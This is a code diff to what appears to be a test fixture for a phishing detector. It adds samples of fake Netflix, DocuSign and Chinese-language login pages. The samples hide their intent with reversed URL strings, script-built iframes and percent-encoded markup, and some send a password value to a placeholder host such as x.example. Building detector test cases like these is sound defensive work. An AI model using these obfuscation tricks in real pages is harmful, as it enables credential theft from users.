@@ -80,6 +80,21 @@ const held: Record<string, ReturnType<typeof page>[]> = {
     page(`<h1>Netflix</h1>${password}`),
     script(`fetch("elpmaxe.x//:sptth".split("").reverse().join(""), { method: "POST" })`),
   ],
+  'an address backwards, turned in another way': [
+    page(`<h1>Netflix</h1>${password}`),
+    script(
+      `const a = "elpmaxe.x//:sptth"; f.action = Array.from(a).reverse().join(""); f.submit()`,
+    ),
+  ],
+  'a frame that a script makes': [
+    page('<title>DocuSign: sign in</title>'),
+    script(`const f = document.createElement('iframe'); f.src = s + '://' + host`),
+  ],
+  'a Chinese page in percent signs': [
+    script(
+      `const c = '%3C%68%31%3E%E4%BA%AC%E4%B8%9C%3Cinput type="password"%3E'; document.body.innerHTML = decodeURIComponent(c); fetch("https://x.example", { method: "POST", body: n.value })`,
+    ),
+  ],
   'a page in base64': [script(`document.body.innerHTML = decode("PGZvcm0+PGlucHV0Pg==")`)],
   'a name in pieces': [
     page(`<h1><b>Pay</b><i>Pal</i></h1><form action="//x.example">${password}</form>`),
